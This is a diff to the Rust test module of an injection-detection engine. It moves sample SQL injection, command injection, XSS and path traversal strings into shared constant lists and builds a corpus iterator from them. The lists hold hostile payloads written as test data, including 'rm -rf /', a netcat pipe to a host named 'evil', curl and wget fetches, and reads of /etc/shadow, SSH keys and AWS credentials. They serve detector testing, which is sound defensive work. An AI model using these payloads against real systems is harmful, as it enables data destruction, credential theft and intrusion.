@@ -1177,35 +1177,115 @@ mod tests {
         assert_eq!(engine().rules.len(), 8);
     }
 
+    /// Attacks the sql injection rules must catch.
+    const SQL_ATTACKS: &[&str] = &[
+        "' OR '1'='1",
+        "1\" or 1=1 --",
+        "x'; DROP TABLE users; --",
+        "'; DROP TABLE users; --",
+        "1; delete from accounts",
+        "') UNION SELECT password FROM users",
+        "' union/**/all/**/select 1",
+        "'; WAITFOR DELAY '0:0:5'",
+        "1' AND SLEEP(5)",
+        "UN/**/ION SEL/**/ECT",
+        "admin'--",
+        "admin'#",
+        "1;--",
+    ];
+
+    /// Harmless values the sql injection rules must let through.
+    const SQL_HARMLESS: &[&str] = &[
+        "O'Brien",
+        "select the best option",
+        "rock and roll",
+        "it's 5 o'clock; time for tea",
+        "Union Square",
+        "a - b -- c",
+        "\"quoted\" text",
+    ];
+
+    /// Attacks the command injection rules must catch.
+    const CMD_ATTACKS: &[&str] = &[
+        "foo; rm -rf /",
+        "a | nc evil 4444",
+        "x && curl http://e",
+        "$(whoami)",
+        "${IFS}cat${IFS}/etc/passwd",
+        "`whoami`",
+        "x > /etc/cron.d/job",
+        "name;/bin/sh",
+        "2>&1",
+        "x||y",
+    ];
+
+    /// Harmless values the command injection rules must let through.
+    const CMD_HARMLESS: &[&str] = &[
+        "rm is a command",
+        "cats and dogs",
+        "price $5",
+        "a & b",
+        "left | right",
+        "(parenthesised)",
+        "2 > 1",
+    ];
+
+    /// Attacks the xss rules must catch.
+    const XSS_ATTACKS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "< SCRIPT src=//x>",
+        "javascript:alert(1)",
+        "JaVaScRiPt :x",
+        "<img src=x onerror=alert(1)>",
+        "<body onload = x()>",
+        "<iframe src=x>",
+        "data:text/html;base64,xx",
+        "<svg/onload=x>",
+    ];
+
+    /// Harmless values the xss rules must let through.
+    const XSS_HARMLESS: &[&str] = &[
+        "one = 1",
+        "only=yes",
+        "java script",
+        "description: a <b>bold</b> word",
+    ];
+
+    /// Attacks the path traversal rules must catch.
+    const PATH_ATTACKS: &[&str] = &[
+        "../../etc/passwd",
+        "..\\..\\windows",
+        "a/../b",
+        "..",
+        "%2e%2e%2fetc",
+        "%2E%2E/",
+        "..%2f..%2f",
+        "%252e%252e%252f",
+        "%c0%ae%c0%ae/",
+        "file.txt%00.png",
+        "/etc/shadow",
+        "C:\\Windows\\System32",
+        "/proc/self/environ",
+        "~/.ssh/id_rsa",
+        "..;/admin",
+    ];
+
+    /// Harmless values the path traversal rules must let through.
+    const PATH_HARMLESS: &[&str] = &[
+        "file..txt",
+        "a/b/c",
+        "v1.2.3",
+        "...",
+        "etc/passwords-manager",
+    ];
+
     #[test]
     fn sql_injection() {
         use Category::SqlInjection as C;
-        for bad in [
-            "' OR '1'='1",
-            "1\" or 1=1 --",
-            "x'; DROP TABLE users; --",
-            "'; DROP TABLE users; --",
-            "1; delete from accounts",
-            "') UNION SELECT password FROM users",
-            "' union/**/all/**/select 1",
-            "'; WAITFOR DELAY '0:0:5'",
-            "1' AND SLEEP(5)",
-            "UN/**/ION SEL/**/ECT",
-            "admin'--",
-            "admin'#",
-            "1;--",
-        ] {
+        for &bad in SQL_ATTACKS {
             assert!(hits(C, bad), "{bad}");
         }
-        for good in [
-            "O'Brien",
-            "select the best option",
-            "rock and roll",
-            "it's 5 o'clock; time for tea",
-            "Union Square",
-            "a - b -- c",
-            "\"quoted\" text",
-        ] {
+        for &good in SQL_HARMLESS {
             assert!(!hits(C, good), "{good}");
         }
     }
@@ -1213,29 +1293,10 @@ mod tests {
     #[test]
     fn command_injection() {
         use Category::CommandInjection as C;
-        for bad in [
-            "foo; rm -rf /",
-            "a | nc evil 4444",
-            "x && curl http://e",
-            "$(whoami)",
-            "${IFS}cat${IFS}/etc/passwd",
-            "`whoami`",
-            "x > /etc/cron.d/job",
-            "name;/bin/sh",
-            "2>&1",
-            "x||y",
-        ] {
+        for &bad in CMD_ATTACKS {
             assert!(hits(C, bad), "{bad}");
         }
-        for good in [
-            "rm is a command",
-            "cats and dogs",
-            "price $5",
-            "a & b",
-            "left | right",
-            "(parenthesised)",
-            "2 > 1",
-        ] {
+        for &good in CMD_HARMLESS {
             assert!(!hits(C, good), "{good}");
         }
     }
@@ -1243,25 +1304,10 @@ mod tests {
     #[test]
     fn xss() {
         use Category::Xss as C;
-        for bad in [
-            "<script>alert(1)</script>",
-            "< SCRIPT src=//x>",
-            "javascript:alert(1)",
-            "JaVaScRiPt :x",
-            "<img src=x onerror=alert(1)>",
-            "<body onload = x()>",
-            "<iframe src=x>",
-            "data:text/html;base64,xx",
-            "<svg/onload=x>",
-        ] {
+        for &bad in XSS_ATTACKS {
             assert!(hits(C, bad), "{bad}");
         }
-        for good in [
-            "one = 1",
-            "only=yes",
-            "java script",
-            "description: a <b>bold</b> word",
-        ] {
+        for &good in XSS_HARMLESS {
             assert!(!hits(C, good), "{good}");
         }
     }
@@ -1269,32 +1315,10 @@ mod tests {
     #[test]
     fn path_traversal() {
         use Category::PathTraversal as C;
-        for bad in [
-            "../../etc/passwd",
-            "..\\..\\windows",
-            "a/../b",
-            "..",
-            "%2e%2e%2fetc",
-            "%2E%2E/",
-            "..%2f..%2f",
-            "%252e%252e%252f",
-            "%c0%ae%c0%ae/",
-            "file.txt%00.png",
-            "/etc/shadow",
-            "C:\\Windows\\System32",
-            "/proc/self/environ",
-            "~/.ssh/id_rsa",
-            "..;/admin",
-        ] {
+        for &bad in PATH_ATTACKS {
             assert!(hits(C, bad), "{bad}");
         }
-        for good in [
-            "file..txt",
-            "a/b/c",
-            "v1.2.3",
-            "...",
-            "etc/passwords-manager",
-        ] {
+        for &good in PATH_HARMLESS {
             assert!(!hits(C, good), "{good}");
         }
     }
@@ -1367,91 +1391,29 @@ mod tests {
         assert!(!is_shell_command(b"powershell2"));
     }
 
-    /// The attack cases of the rule tests above, the harmless look-alikes, and encoding
-    /// and Unicode evasions: the fast path must agree with the full scan on each.
-    const CORPUS: &[&str] = &[
-        "' OR '1'='1",
-        "1\" or 1=1 --",
-        "x'; DROP TABLE users; --",
-        "1; delete from accounts",
-        "') UNION SELECT password FROM users",
-        "' union/**/all/**/select 1",
-        "'; WAITFOR DELAY '0:0:5'",
-        "1' AND SLEEP(5)",
+    /// More attacks and look-alikes than the rule tests above use, and encoding and
+    /// Unicode evasions.
+    const CORPUS_MORE: &[&str] = &[
         "x' and benchmark(1000,md5(1))",
         "'; select pg_sleep(5)",
         "' || dbms_pipe.receive_message('a',5)",
         "' union select load_file('/etc/passwd')",
         "' into outfile '/tmp/x'",
         "\" xor 1=1",
-        "UN/**/ION SEL/**/ECT",
-        "admin'--",
-        "admin'#",
         "admin' )  -- x",
-        "1;--",
-        "foo; rm -rf /",
-        "a | nc evil 4444",
-        "x && curl http://e",
-        "$(whoami)",
-        "${IFS}cat${IFS}/etc/passwd",
-        "`whoami`",
-        "x > /etc/cron.d/job",
-        "name;/bin/sh",
         "a & /usr/bin/id",
         "a|/bin/sh",
         "a & python3.8 -c x",
         "a | PyThOn -c x",
         "a &\tWGET http://x",
         "x $IFS y",
-        "2>&1",
-        "x||y",
-        "<script>alert(1)</script>",
-        "< SCRIPT src=//x>",
-        "javascript:alert(1)",
-        "JaVaScRiPt :x",
-        "<img src=x onerror=alert(1)>",
-        "<body onload = x()>",
-        "<iframe src=x>",
-        "data:text/html;base64,xx",
-        "<svg/onload=x>",
-        "../../etc/passwd",
-        "..\\..\\windows",
-        "a/../b",
-        "..",
-        "%2e%2e%2fetc",
-        "%2E%2E/",
-        "..%2f..%2f",
-        "%252e%252e%252f",
-        "%c0%ae%c0%ae/",
         "%e0%80%ae%e0%80%ae/",
         "%U002E%u002e/",
         ".%2e/",
-        "file.txt%00.png",
-        "/etc/shadow",
         "etc/passwd",
-        "C:\\Windows\\System32",
-        "/proc/self/environ",
-        "~/.ssh/id_rsa",
         ".aws/credentials",
-        "..;/admin",
         // Harmless look-alikes.
-        "O'Brien",
         "user's report",
-        "\"quoted\" text",
-        "select the best option",
-        "it's 5 o'clock; time for tea",
-        "a - b -- c",
-        "rm is a command",
-        "price $5",
-        "a & b",
-        "left | right",
-        "2 > 1",
-        "one = 1",
-        "description: a <b>bold</b> word",
-        "file..txt",
-        "v1.2.3",
-        "...",
-        "etc/passwords-manager",
         "https://docs.example.com/articles/1?ref=search&page=2",
         "https://e.com/a%20b%2Fc",
         // Encodings and Unicode: caught or not, both paths must say the same.
@@ -1466,6 +1428,25 @@ mod tests {
         "\t\n\r",
         "",
     ];
+
+    /// The attack cases and harmless look-alikes of the rule tests, and [`CORPUS_MORE`]:
+    /// the fast path must agree with the full scan on each.
+    fn corpus() -> impl Iterator<Item = &'static str> {
+        [
+            SQL_ATTACKS,
+            SQL_HARMLESS,
+            CMD_ATTACKS,
+            CMD_HARMLESS,
+            XSS_ATTACKS,
+            XSS_HARMLESS,
+            PATH_ATTACKS,
+            PATH_HARMLESS,
+            CORPUS_MORE,
+        ]
+        .into_iter()
+        .flatten()
+        .copied()
+    }
 
     /// The full scan: every built-in pattern and every blocked pattern in one plain
     /// regex set, searched everywhere.
@@ -1546,7 +1527,7 @@ mod tests {
     #[test]
     fn fast_path_agrees_with_full_scan_on_the_corpus() {
         let (e, full, eb, fullb) = &*FULL;
-        for s in CORPUS {
+        for s in corpus() {
             agree(e, full, s).unwrap();
             agree(eb, fullb, s).unwrap();
             // And with the value in the middle of prose, and at the end of a long value.
@@ -1646,7 +1627,7 @@ mod tests {
 
     #[test]
     fn start_filter_never_hides_a_match_in_the_corpus() {
-        for s in CORPUS {
+        for s in corpus() {
             filter_sound_on(s).unwrap();
         }
     }
